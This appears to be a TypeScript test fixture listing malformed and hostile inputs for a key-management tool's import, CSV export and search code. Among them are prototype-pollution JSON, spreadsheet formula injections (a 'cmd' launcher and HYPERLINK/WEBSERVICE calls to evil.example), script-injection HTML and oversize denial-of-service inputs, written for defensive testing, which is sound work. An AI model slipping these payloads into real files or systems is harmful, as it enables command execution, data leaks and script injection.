/** quality.md, section 7: files that are not what they say, and texts that stand for more than themselves elsewhere. */
import { digestOf } from '../e2e/support/seed.ts';
import { estateFile } from './estates.ts';

export const secret = '7c1e0b5d9a3f42688e1d6c0b9f7a5e3d2c4b9f3c';

const sealed = (change: (document: Record<string, unknown>) => void): string => {
  const document = JSON.parse(estateFile(4, 'x')) as Record<string, unknown>;
  delete document['digest'];
  change(document);
  return JSON.stringify({ ...document, digest: digestOf(document) });
};
const keysOf = (document: Record<string, unknown>) => document['keys'] as Record<string, unknown>[];

export const snapshots: [name: string, text: string][] = [
  ['nothing', ''],
  ['no JSON', '{'],
  ['half a file', estateFile(20, 'x').slice(0, 3_000)],
  ['UTF-16 read as UTF-8', Buffer.from(estateFile(2, 'x'), 'utf16le').toString('utf8')],
  ['200,000 brackets', '['.repeat(200_000)],
  ['100,000 levels', '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000)],
  ['a list', '[]'],
  ['a number out of range', '1e999'],
  ['another format', '{"format":"keyholder.other","version":1}'],
  ['a version of tomorrow', '{"format":"keyholder.snapshot","version":99}'],
  ['a version that is a text', '{"format":"keyholder.snapshot","version":"1"}'],
  ['its own __proto__', '{"__proto__":{"polluted":true},"format":"keyholder.snapshot","version":1}'],
  ['a changed label under the old seal', estateFile(4, 'x').replace('"x 000000"', '"y 000000"')],
  ['a key in a note', sealed((document) => (keysOf(document)[0]!['notes'] = `it is ${secret}`))],
  ['a key as an id', sealed((document) => (keysOf(document)[0]!['id'] = secret))],
  ['a hint of five', sealed((document) => (keysOf(document)[0]!['hint'] = '12345'))],
  ['a generation of 2^53+1', sealed((document) => (keysOf(document)[0]!['generation'] = 2 ** 53 + 2))],
  ['an unknown field', sealed((document) => (document['evil'] = 1))],
  ['a field named constructor', sealed((document) => (keysOf(document)[0]!['constructor'] = 1))],
  ['a name of 100,000 letters', sealed((document) => (keysOf(document)[0]!['label'] = 'x'.repeat(100_000)))],
  ['a name of ten million letters', sealed((document) => (keysOf(document)[0]!['label'] = 'x'.repeat(10_000_000)))],
  ['a lone surrogate in a name', JSON.stringify(JSON.parse(estateFile(4, 'x'))).replace('"x 000000"', '"\\ud800"')],
  ['minus zero as a generation', sealed((document) => (keysOf(document)[0]!['generation'] = -1))],
  ['a zip', `PK\u0003\u0004${'\u0000'.repeat(1_000)}`],
  ['a page of HTML', '<!doctype html><script>alert(1)</script>'],
  ['a date that is none', sealed((document) => (keysOf(document)[0]!['createdOn'] = 'yesterday'))],
];

export const csvs: [name: string, text: string][] = [
  ['no header that is known', 'a,b\n1,2\n'],
  ['a key in a cell', `region,workspace,key_type,notes\nus,EMEA,production,${secret}\n`],
  ['a type that is none', 'region,workspace,key_type\nus,EMEA,=cmd|x\n'],
  ['a quote that never ends', 'region,workspace,key_type\nus,"EMEA,production\n'],
  ['thousands of columns', `${'x,'.repeat(3_000)}workspace\n`],
  ['a hint of five', 'region,workspace,key_type,key_hint\nus,EMEA,production,12345\n'],
  ['a zip', `PK\u0003\u0004${'\u0000'.repeat(1_000)}`],
  ['a region that is none', 'region,workspace,key_type\nmoon,EMEA,production\n'],
  ['a million rows', `region,workspace,key_type\n${'us,EMEA,production\n'.repeat(1_000_000)}`],
  ['a NUL in the type', 'region,workspace,key_type\nus,EMEA,production\u0000\n'],
];

/** What a spreadsheet takes for a formula, a separator or the end of a cell. */
export const cells: readonly string[] = [
  '=1+1',
  '+49 30 1234',
  '-1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  'a\r\n=1+1',
  'say "x", and\nmore',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  '=WEBSERVICE("http://evil.example")',
  '<img src=x onerror=alert(1)>',
];

/** Searches, and whether one finds something in the sample organization. */
export const searches: readonly [name: string, text: string, found: boolean][] = [
  ['signs of patterns', '.*[a-z]+(?=x)\\', false],
  ['a bracket alone', '(', false],
  ['a megabyte', 'x'.repeat(1_000_000), false],
  ['a megabyte of words', 'emea '.repeat(200_000), false],
  ['combining marks', 'e\u0301mea', false],
  ['composed and decomposed alike', 'EMEA Sales'.normalize('NFD'), true],
  ['a Turkish i', 'EMEA SALES\u0130', false],
  ['marks of direction', '\u202EEMEA\u202C', false],
  ['a prototype', '__proto__ constructor', false],
  ['NUL', 'EMEA\u0000', false],
];
